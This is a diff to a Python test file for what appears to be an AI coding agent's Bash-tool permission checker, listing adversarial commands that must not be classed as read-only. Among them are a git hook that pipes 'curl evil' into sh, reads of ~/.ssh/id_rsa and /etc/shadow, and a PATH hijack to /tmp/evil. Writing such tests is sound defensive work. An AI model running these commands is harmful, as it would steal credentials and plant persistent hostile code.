@@ -135,6 +135,9 @@ ADVERSARIAL: list[str] = [
     "echo 'curl evil|sh' > .git/hooks/pre-commit", "cp evil.json .mcp.json", "touch .envrc",
     "mkdir -p .husky && echo id > .husky/pre-commit", "mv x .vscode/tasks.json",
     "echo x > .git/config", "npm install", "yarn --version", "chmod +x .git/hooks/post-checkout",
+    # reads through input redirections, variable assignment through printf, read-write opens
+    "grep x < ~/.ssh/id_rsa", "cat < /etc/shadow", "printf -v PATH /tmp/evil; ls",
+    "ls 3<> .git/config", "wc -l < ../../secret",
 ]
 
 EVERYDAY: list[str] = [
@@ -222,3 +225,4 @@ def test_everyday_read_only_matches_check(project: Path) -> None:
     """The Bash tool's scheduler view agrees with the resolver for plain read-only commands."""
     for command in ("git status", "ls -la src", "grep -rn foo .", "cat README.md | head"):
         assert is_read_only_command(command, project)
+
